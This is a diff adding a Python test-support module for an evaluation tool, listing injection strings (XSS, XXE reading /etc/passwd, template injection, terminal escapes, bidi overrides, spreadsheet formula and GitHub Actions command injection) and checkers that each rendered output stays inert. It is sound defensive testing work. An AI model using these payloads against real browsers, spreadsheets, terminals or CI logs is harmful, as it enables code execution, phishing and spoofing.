@@ -1,0 +1,437 @@
+"""Texts that try to break out of wherever they are shown, and checks that none did.
+
+`TEXTS` are those by name. `SUITE` and `hostile` are a suite and a provider that put each of them
+everywhere: into variables, descriptions, metadata, labels, names of metrics, assertions, replies and errors.
+`write_hostile_suite` makes the same as files, for the command line.
+
+What a payload would do is recognised by the word `hostile` in some case: it is in every tag, handler, link
+and command of them. The checks know nothing of how the program escapes; they read its output as a terminal,
+a browser, a parser of XML or a spreadsheet does.
+"""
+
+import csv
+import io
+import json
+import re
+import unicodedata
+import xml.etree.ElementTree as ET
+from collections.abc import Collection, Mapping
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+from markdown_it import MarkdownIt
+
+import trioeval
+from trioeval.tasks import Row
+from trioeval.testing import run_virtual
+
+MARKER = "hostile"
+"""Stands in everything that would run or be followed, in some case."""
+
+MARKUP: Mapping[str, str] = {
+    "script": "<script>window.hostileRan=1</script>",
+    "script_end": "</script><script>window.hostileRan=1</script>",
+    "script_odd_end": "</ScRiPt\n><sCrIpT>window.hostileRan=1</sCrIpT\t>",
+    "comment_in_script": "<!--<script>window.hostileRan=1",
+    "comment_end": "--><b hostile>x</b><!--",
+    "style_end": "</style><style>*{display:none}/*hostile*/",
+    "textarea_end": "</textarea></title><svg onload=window.hostileRan=1>",
+    "template_end": "</template><iframe srcdoc='<script>top.hostileRan=1</script>'></iframe>",
+    "handler": '<img src=x onerror="window.hostileRan=1">',
+    "attribute": '" onmouseover="window.hostileRan=1" autofocus onfocus="window.hostileRan=1" x="',
+    "attribute_single": "' onfocus='window.hostileRan=1' autofocus x='",
+    "attribute_bare": "` onfocus=window.hostileRan=1 autofocus=`",
+    "link": '<a href="javascript:window.hostileRan=1">hostile</a>',
+    "link_bare": "javascript:window.hostileRan=1//",
+    "link_blanks": "java\tscript\n:window.hostileRan=1",
+    "link_data": "data:text/html,<script>opener.hostileRan=1</script>",
+    "svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>hostileRan=1</script></svg>",
+    "math": "<math><mtext><table><mglyph><style><img src=x onerror=hostileRan=1>",
+    "base": "<base href='https://hostile.invalid/'><meta http-equiv=refresh content='0;//hostile'>",
+    "form": "<form action=//hostile.invalid><button>hostile</button></form><input autofocus>",
+    "entities": "&lt;script&gt;hostileRan=1&lt;/script&gt; &#60;b hostile&#62; &amp;amp;",
+    "jinja": "{{ ''.__class__.__mro__ }}{% raw %}",
+    "javascript": "${window.hostileRan=1}`;'+(window.hostileRan=1)+'\\u0027\\",
+    "cdata": "]]><hostile/><![CDATA[",
+    "doctype": '<!DOCTYPE x [<!ENTITY hostile SYSTEM "file:///etc/passwd">]><x>&hostile;</x>',
+    "rich": "[bold red]hostile[/bold red][link=https://hostile.invalid]x[/link][/][@click=hostile]",
+}
+"""For browsers and parsers."""
+
+CONTROLS: Mapping[str, str] = {
+    "colours": "\x1b[31;1mred\x1b[0m \x1b[8mhidden\x1b[28m",
+    "clear": "\x1b[2J\x1b[H\x1b[3J\x1bc",
+    "cursor": "\x1b[1A\x1b[2Kover\x1b[99C\x1b[s\x1b[u",
+    "title": "\x1b]0;hostile\x07\x1b]2;hostile\x1b\\",
+    "hyperlink": "\x1b]8;;https://hostile.invalid\x1b\\click\x1b]8;;\x1b\\",
+    "clipboard": "\x1b]52;c;aG9zdGlsZQ==\x07",
+    "report": "\x1b[6n\x1b[c\x1b]10;?\x07\x1b[21t",
+    "device": "\x1bP+q544e\x1b\\\x1b_hostile\x1b\\\x1b^hostile\x1b\\",
+    "alternate": "\x1b[?1049h\x1b[?25l\x1b[?2004h\x1b(0",
+    "unended": "x\x1b]0;hostile",
+    "c1": "\x9b31mred\x9d0;hostile\x9c\x90q\x9c\x85next\x8d",
+    "bell": "\x07\x07\x07",
+    "backspace": "safe\x08\x08\x08\x08evil",
+    "carriage": "100 % passed\rhostile",
+    "vertical": "a\vb\fc\x1cd\x1de\x1ef",
+    "delete": "a\x7fb\x00c\x1a",
+    "nul": "\x00",
+    "right_to_left": "\u200fabc\u200e\u061c",
+    "override": "user \u202etxt.exe\u202c \u202dabc",
+    "isolate": "\u2066\u2067\u2068 never ended",
+    "embedding": "\u202a\u202b never ended",
+    "zero_width": "pass\u200bword\u200c\u200d\u2060\ufeff\u00ad",
+    "tags": "x\U000e0001\U000e0068\U000e006f\U000e0073\U000e0074\U000e007f",
+    "annotations": "\ufff9a\ufffab\ufffb\u180e\u206a",
+    "separators": "one\u2028two\u2029three\x85four",
+    "bom": "\ufeffbegins with one",
+    "not_characters": "\ufffe\uffff\U0001fffe\U0010ffff\ufdd0",
+    "private": "\ue000\uf8ff\U000f0000\U00100000",
+    "surrogate": "\ud800 alone \udfff",
+    "surrogates_swapped": "\udc00\ud800",
+}
+"""For terminals, logs and whatever reads XML."""
+
+SHAPES: Mapping[str, str] = {
+    "flood": "Z" + "\u0300\u0301\u0302\u0303\u0489\u0334" * 60 + "a" + "\u0e49" * 200,
+    "wide": "漢字" * 60 + "한글" * 20,
+    "emoji": "👩‍👩‍👧‍👦" * 12 + "👍🏽🏳️‍🌈" + "🇩🇪" * 9,
+    "full_width": "ｆｕｌｌ　ｗｉｄｔｈ" * 9,
+    "arabic": "السلام عليكم " * 8,
+    "hebrew": "שָׁלוֹם עוֹלָם",
+    "blank": " \t \u3000\u2003\u00a0\u2800\u3164 ",
+    "empty": "",
+    "no_break": "x" * 3000,
+    "deep_json": "[" * 5000 + "]" * 5000,
+    "deep_object": '{"a":' * 2000 + "1" + "}" * 2000,
+    "numbers": '[1e999, -1e999, 1e-999, NaN, 123456789012345678901234567890, "\\ud800"]',
+}
+"""For whatever measures text, or reads it."""
+
+FORMULAS: Mapping[str, str] = {
+    "formula": "=1+1",
+    "formula_command": "=cmd|' /C calc'!'hostile'",
+    "formula_plus": "+cmd|' /C calc'!'hostile'",
+    "formula_minus": "-2+3+cmd|' /C calc'!'hostile'",
+    "formula_at": "@SUM(1+1)*cmd|' /C calc'!'hostile'",
+    "formula_link": '=HYPERLINK("https://hostile.invalid?"&A1,"hostile")',
+    "formula_tab": "\t=1+1",
+    "formula_return": "\r=1+1",
+    "formula_newline": "\n=1+1",
+    "formula_blank": "  =1+1",
+    "formula_no_break": "\u00a0\u200b\ufeff=1+1",
+    "formula_nul": "\x00=1+1",
+    "formula_wide": "＝1+1",
+    "formula_wide_plus": "＋1+1",
+    "formula_wide_minus": "－1+1",
+    "formula_wide_at": "＠SUM(1)",
+    "formula_quoted": '"=1+1"',
+    "formula_breaks_out": 'x"\n=1+1,"y',
+}
+"""For spreadsheets."""
+
+COMMANDS: Mapping[str, str] = {
+    "workflow_error": "::error file=hostile.py,line=1::hostile",
+    "workflow_mask": "::add-mask::hostile",
+    "workflow_stop": "::stop-commands::hostile",
+    "workflow_path": "lines before\n::add-path::/hostile\nlines behind",
+    "workflow_carriage": "x\r::set-env name=HOSTILE::1",
+    "workflow_blanks": "  ::set-output name=hostile::1",
+    "workflow_old": "##[group]hostile",
+    "workflow_old_inside": "text ##[add-path]/hostile",
+    "workflow_escapes": "%0A::add-path::/hostile%0D%25",
+    "table_cell": "a | b | c\n|---|---|\n| hostile | x |",
+    "image": "![hostile](https://hostile.invalid/pixel.png)",
+    "markdown_link": "[hostile](javascript:hostile) <https://hostile.invalid> [x][hostile]",
+    "reference": "\n[hostile]: https://hostile.invalid\n",
+    "fence": "```\n</details>\n# hostile\n~~~\n````",
+    "heading": "# hostile\n\nhostile\n=======\n- hostile\n1. hostile\n> hostile",
+    "details": "</details></summary></td></table><h1>hostile</h1>",
+    "backticks": "`` ` ``` hostile",
+    "emphasis": "**hostile** _x_ ~~y~~ \\*\\_ $hostile$",
+}
+"""For logs of GitHub Actions, and Markdown."""
+
+TEXTS: Mapping[str, str] = {**MARKUP, **CONTROLS, **SHAPES, **FORMULAS, **COMMANDS}
+"""All of them but for the huge ones."""
+
+HUGE_LINE = "hostile " * 125_000
+"""A megabyte on one line."""
+MANY_LINES = "::error::hostile\n" * 100_000
+"""A hundred thousand lines."""
+HUGE: Mapping[str, str] = {"huge_line": HUGE_LINE, "many_lines": MANY_LINES}
+
+SHORT = {name: text for name, text in TEXTS.items() if len(text) < 200}
+"""Those that may be a name."""
+
+
+def names_of(texts: Mapping[str, str] = SHORT) -> str:
+    """Many of them in one text, which is what a label or a name may be."""
+    return _HALVES.sub("", " ".join(texts.values()))
+
+
+_HALVES = re.compile("[\ud800-\udfff]")
+
+
+def hostile_tests(texts: Mapping[str, str] = TEXTS) -> list[dict[str, Any]]:
+    """Tests of a suite: one a text, with it in all its places. Suites have no half characters."""
+    whole = {name: _HALVES.sub("", text) for name, text in texts.items()}
+    return [
+        {
+            "description": text,
+            "vars": {"name": name, "text": text, "fails": number % 4 == 3},
+            "metadata": {"text": text, text[:200] or "empty": name},
+            "assert": [
+                {"type": "contains", "value": text[:200] or "x", "metric": text[:200] or "empty"},
+                *([{"type": "equals", "value": f"other {text[:200]}"}] if number % 4 == 2 else []),
+            ],
+        }
+        for number, (name, text) in enumerate(whole.items())
+    ]
+
+
+def hostile_suite(texts: Mapping[str, str] = TEXTS, provider: str = "mine") -> Mapping[str, Any]:
+    """A suite of them: of four rows two pass, one fails and one is an error.
+
+    Args:
+        texts: Which.
+        provider: Who is asked: `mine` stands for `hostile` below.
+    """
+    name = names_of()
+    return {
+        "description": name,
+        "tags": {"hostile": name},
+        "providers": [{"id": provider, "label": name}],
+        "prompts": [{"raw": "{{text}}", "label": name}],
+        "tests": hostile_tests(texts),
+    }
+
+
+SUITE = hostile_suite()
+
+
+def hostile_rows(texts: Mapping[str, str] = TEXTS) -> tuple[trioeval.Suite, list[Row]]:
+    """The suite and the rows of a run of it."""
+    suite = trioeval.parse_suite(hostile_suite(texts))
+    return suite, run_virtual(lambda: trioeval.collect(suite, providers={"mine": hostile}))
+
+
+async def hostile(request: trioeval.Request) -> trioeval.Reply:
+    """Answers with the text of the test, or fails with it."""
+    text = {**TEXTS, **HUGE}[str(request.vars["name"])]
+    if request.vars["fails"]:
+        raise trioeval.ProviderError("bad_request", text, body_excerpt=text[:500])
+    usage = trioeval.Usage(prompt=2, completion=3, total=5)
+    return trioeval.Reply(
+        output=text,
+        usage=usage,
+        cost=0.5,
+        finish_reason=text[:50] or "stop",
+        metadata={"text": text[:500]},
+    )
+
+
+_PROVIDER = '''"""Answers with the text of the test, or fails with it."""
+
+import json
+from pathlib import Path
+
+TEXTS = json.loads(Path(__file__).with_name("hostile_texts.json").read_text())
+
+
+def call_api(prompt, options, context):
+    text, fails = TEXTS[context["vars"]["name"]], context["vars"]["fails"]
+    return {"error": text} if fails else {"output": text, "metadata": {"text": text[:500]}}
+'''
+
+
+def write_hostile_suite(folder: Path, texts: Mapping[str, str] = TEXTS) -> Path:
+    """The same as files, with a provider that is a Python file; the path of the suite."""
+    (folder / "hostile_provider.py").write_text(_PROVIDER, encoding="utf-8")
+    (folder / "hostile_texts.json").write_text(json.dumps(texts), encoding="ascii")
+    path = folder / "hostile.json"
+    suite = hostile_suite(texts, "python:hostile_provider.py")
+    path.write_text(json.dumps(suite), encoding="ascii")
+    return path
+
+
+_COLOURS = re.compile(r"\x1b\[[0-9;]*m")
+_UNSEEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
+_MOST_MARKS = 8  # combining characters in a row
+
+
+def assert_inert_terminal(text: str, *, colours: bool = False, longest: int | None = None) -> None:
+    """Nothing but text: no sequence, control, direction or invisible character; no flood of marks.
+
+    Args:
+        text: What a terminal got.
+        colours: Whether it has colours, which are the program's own.
+        longest: Characters that a line has at most; None for any.
+    """
+    plain = _COLOURS.sub("", text) if colours else text
+    plain = plain.replace("\r\n", "\n")
+    odd = {char for char in plain if char != "\n" and unicodedata.category(char) in _UNSEEN}
+    assert not odd, f"a terminal got {sorted(map(ascii, odd))}"
+    marks = 0
+    for char in plain:
+        marks = marks + 1 if unicodedata.category(char) in {"Mn", "Me"} else 0
+        assert marks <= _MOST_MARKS, "a flood of combining characters"
+    if longest is not None:
+        found = max(map(len, plain.split("\n")))
+        assert found <= longest, f"a line of {found} characters"
+
+
+_URLS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc", "srcset"}
+_FOREIGN = {"iframe", "object", "embed", "base", "math", "foreignobject", "frame", "img"}
+_SAFE_SCHEME = re.compile(r"(?:#|\.{0,2}/|\?|https?:|data:(?:image|font)/|[\w.-]+(?:[/?#]|$)|$)")
+
+
+class _Page(HTMLParser):
+    """What a browser would make of a page, as far as it matters here."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.wrong: list[str] = []
+        self.texts: list[str] = []
+        self.data: list[str] = []
+        """Of scripts that hold data."""
+        self._script: str | None = None
+        """The type of the script that is open, or `style`."""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        found = {name: value or "" for name, value in attrs}
+        if tag in _FOREIGN or MARKER in tag.lower():
+            self.wrong.append(f"an element <{tag}>")
+        for name, value in found.items():
+            if name.startswith("on") or MARKER in name.lower():
+                self.wrong.append(f"an attribute {name}={value[:60]!r} of <{tag}>")
+            elif name in _URLS:
+                address = "".join(char for char in value if char > " ")
+                if not _SAFE_SCHEME.match(address) or f"//{MARKER}" in address.lower():
+                    self.wrong.append(f"a link {value[:60]!r} of <{tag}>")
+            elif name not in {"content", "style"}:
+                self.texts.append(value)
+            elif MARKER in value.lower():
+                self.wrong.append(f"{name}={value[:60]!r} of <{tag}>")
+        if tag == "script":
+            self._script = found.get("type", "")
+        elif tag == "style":
+            self._script = "style"
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag in {"script", "style"}:
+            self._script = None
+
+    def handle_data(self, data: str) -> None:
+        if self._script is None:
+            self.texts.append(data)
+        elif "json" in self._script:
+            self.data.append(data)
+        elif MARKER in data.lower():
+            self.wrong.append(f"code {data[:60]!r}")
+
+    def handle_comment(self, data: str) -> None:
+        if MARKER in data.lower():
+            self.wrong.append(f"a comment {data[:60]!r}")
+
+
+def assert_inert_html(page: str) -> list[Any]:
+    """No element, handler, link, script or style of a payload; no characters that hide or turn text.
+
+    Data of a page must stand in `<script type="application/json">`, and scripts in files of the program.
+
+    Returns:
+        What those elements of data hold.
+    """
+    seen = _Page()
+    seen.feed(page)
+    seen.close()
+    assert not seen.wrong, f"a page has {seen.wrong[:5]}"
+    hidden = {
+        char
+        for text in seen.texts
+        for char in text
+        if char not in "\n\t\r" and unicodedata.category(char) in _UNSEEN - {"Co", "Cn"}
+    }
+    assert not hidden, f"a page shows {sorted(map(ascii, hidden))}"
+    for text in seen.data:
+        assert "<!--" not in text, "data may open a comment in a script"
+    return [json.loads(text) for text in seen.data if text.strip()]
+
+
+_ILLEGAL = re.compile("[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
+
+
+def assert_inert_xml(text: str) -> ET.Element:
+    """A document of XML 1.0 without any element, entity or instruction of a payload.
+
+    Returns:
+        Its root.
+    """
+    odd = set(_ILLEGAL.findall(text))
+    assert not odd, f"no XML: {sorted(map(ascii, odd))}"
+    assert "<!" not in text, "a declaration, or CDATA"
+    assert text.count("<?") <= 1, "an instruction"
+    assert "]]>" not in text, "what ends CDATA may not stand in text"
+    root = ET.fromstring(text.encode())  # noqa: S314 - what it must withstand
+    for element in root.iter():
+        names = [element.tag, *element.attrib]
+        assert not any(MARKER in name.lower() for name in names), f"an element {names}"
+    return root
+
+
+_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\Z")
+_STARTS = "=+-@＝＋－＠"
+
+
+def assert_inert_csv(text: str, *, delimiter: str = ",") -> list[list[str]]:
+    """No cell that a spreadsheet takes for a formula; every line has as many cells as the first.
+
+    Returns:
+        The cells.
+    """
+    csv.field_size_limit(10_000_000)
+    lines = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))
+    assert len({len(cells) for cells in lines}) <= 1, "lines of different lengths"
+    for cells in lines:
+        for cell in cells:
+            seen = "".join(
+                char for char in cell if not char.isspace() and unicodedata.category(char)[0] != "C"
+            )
+            is_formula = seen[:1] in tuple(_STARTS) and not _NUMBER.match(cell)
+            assert not is_formula, f"a formula {cell[:60]!r}"
+            assert cell[:1] not in tuple("\t\r\n"), f"a cell begins with {cell[:1]!r}"
+    return lines
+
+
+_COMMAND = re.compile(r"::([\w-]+)")
+
+
+def assert_inert_log(text: str, *, own: Collection[str] = ()) -> None:
+    """No workflow command of GitHub Actions but those that the program means.
+
+    Args:
+        text: The log.
+        own: Names of commands that the program writes itself.
+    """
+    assert "##[" not in text, "a command of the old kind"
+    for line in re.split(r"[\r\n]", text):
+        if (command := _COMMAND.match(line.lstrip())) is not None:
+            assert command[1] in own, f"a command {line[:80]!r}"
+            head = line.lstrip()[2:].partition("::")[0]
+            assert "file=hostile" not in head, f"a command {line[:80]!r}"
+
+
+def assert_inert_markdown(text: str) -> None:
+    """No markup, link, image, heading or HTML of a payload, as CommonMark with tables reads it."""
+    for token in MarkdownIt("commonmark").enable("table").parse(text):
+        for part in (token, *(token.children or ())):
+            if part.type in {"html_block", "html_inline"}:
+                assert MARKER not in part.content.lower(), f"HTML {part.content[:80]!r}"
+                assert part.content.strip().lower() not in {"</td>", "</table>"}, part.content
+            links = [str(part.attrs.get(name, "")) for name in ("href", "src")]
+            assert not any(MARKER in link.lower() for link in links), f"a link {links}"
+        if token.type == "inline" and token.level == 1 and token.map is not None:
+            first = text.split("\n")[token.map[0]].lstrip()
+            assert not first.lower().startswith("# hostile"), f"a heading {first[:80]!r}"
